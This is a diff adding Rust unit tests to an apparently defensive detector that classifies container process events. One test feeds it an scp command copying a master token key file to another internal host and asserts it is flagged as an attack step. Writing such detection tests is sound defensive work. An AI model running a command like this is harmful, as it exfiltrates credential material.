@@ -3818,6 +3818,36 @@ mod tests {
             rule,
             "entrypoint sh",
         );
+        // Session 17: the job's copy carrying key material itself to another host of the
+        // site (the blind holdout19's tampered CronJob) is a step no routine work takes;
+        // the same copy of a data file, with the job's own identity key, is the job's work.
+        let scp = |cmd: &str| json!({"evt.type":"execve","evt.rawres":0,"evt.rawtime":1001,"proc.name":"scp","proc.exepath":"/usr/bin/scp","proc.cmdline":cmd});
+        assert_anchored_by(
+            &lineage_job(
+                976,
+                1000,
+                &ctr(json!({})),
+                vec![scp(
+                    "scp -i /keys/id_ed25519 /data/hotlist.bin afc@10.60.4.21:/srv/in/",
+                )],
+            ),
+            rule,
+            "entrypoint sh",
+        );
+        let r = verdict_of(
+            &lineage_job(
+                977,
+                1000,
+                &ctr(json!({})),
+                vec![scp("scp /keys/token-master.key afc@10.60.4.250:")],
+            ),
+            rule,
+        );
+        assert!(!r.is_empty());
+        for c in &r {
+            assert_ne!(c.verdict, Verdict::LikelyFalsePositive, "{c:#?}");
+            assert!(signals(c).contains(&"session_attack_step"), "{c:#?}");
+        }
         // The entrypoint itself (pid 1), when it is not an interpreter.
         let init = json!({"container.id":"c0ffee000002","proc.tty":0,"proc.vpid":1,"proc.pid":5000,"proc.pname":"containerd-shim"});
         let lines: Vec<String> = vec![
